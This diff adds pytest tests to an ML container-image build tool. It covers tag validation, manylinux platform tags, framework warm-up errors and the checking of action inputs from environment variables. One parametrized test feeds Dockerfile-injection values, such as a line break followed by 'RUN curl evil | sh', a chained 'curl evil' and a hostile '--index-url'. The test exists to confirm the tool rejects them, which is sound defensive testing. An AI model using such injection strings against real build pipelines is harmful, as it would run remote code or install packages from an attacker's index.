@@ -284,3 +284,61 @@ def test_trusted_types_from_third_party_packages_become_requirements() -> None:
     types = ["lightgbm.sklearn.LGBMClassifier", "lightgbm.basic.Booster", "_operator.neg", "functools.wraps"]
     assert distributions_of_types(types) == ["lightgbm"]
     assert system_packages_for(serving_requirements([], distributions_of_types(types))) == ["libgomp1"]
+
+
+def test_a_tag_with_a_line_break_is_refused() -> None:
+    from mlci_lib.image.engine import check_tag
+
+    with pytest.raises(InputError, match="not a valid image tag"):
+        check_tag("v1\n")
+
+
+@pytest.mark.parametrize(
+    ("variable", "value"),
+    [
+        ("MLCI_INPUT_BASE_IMAGE", "python:3.12-slim\nRUN curl evil | sh"),
+        ("MLCI_INPUT_PYTHON_VERSION", "3.12\nRUN id"),
+        ("MLCI_INPUT_PLATFORM", "linux\nRUN id"),
+        ("MLCI_INPUT_SYSTEM_PACKAGE", "libgomp1 && curl evil"),
+        ("MLCI_INPUT_REQUIREMENT", "--index-url http://evil"),
+        ("MLCI_INPUT_PORT", "8080\nRUN id"),
+    ],
+)
+def test_action_inputs_are_checked_like_options(
+    sk_model: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    variable: str,
+    value: str,
+) -> None:
+    monkeypatch.setenv("MLCI_INPUT_MODEL", str(sk_model))
+    monkeypatch.setenv("MLCI_INPUT_REPOSITORY", "localhost:5000/m")
+    monkeypatch.setenv("MLCI_INPUT_SMOKE", "false")
+    monkeypatch.setenv(variable, value)
+    assert main(["--from-env", "image", "release"]) == 2
+    assert "RUN" not in capsys.readouterr().out.replace(value, "")
+
+
+def test_the_wheelhouse_accepts_every_older_manylinux_tag() -> None:
+    from mlci_lib.image.context import compatible_platforms
+
+    tags = compatible_platforms("manylinux_2_28_x86_64")
+    assert tags[0] == "manylinux_2_28_x86_64"
+    assert {"manylinux_2_18_x86_64", "manylinux2014_x86_64", "manylinux1_x86_64"} <= set(tags)
+    assert not any(t.startswith("manylinux_2_29") for t in tags)
+    assert compatible_platforms("musllinux_1_2_x86_64") == ["musllinux_1_2_x86_64"]
+
+
+def test_a_framework_model_that_fails_its_warm_up_points_at_its_framework(sk_model: Path) -> None:
+    import dataclasses
+
+    import lightgbm
+
+    from mlci_lib.errors import ModelLoadError
+
+    loaded = load_model(sk_model)
+    unfitted = dataclasses.replace(loaded, estimator=lightgbm.LGBMClassifier(), framework="lightgbm")
+    service = ModelService(unfitted, {})
+    with pytest.raises(ModelLoadError) as caught:
+        service.warm_up(pd.DataFrame({"a": [1.0], "b": [2.0]}))
+    assert "installed lightgbm" in str(caught.value) and "scikit-learn" not in str(caught.value)
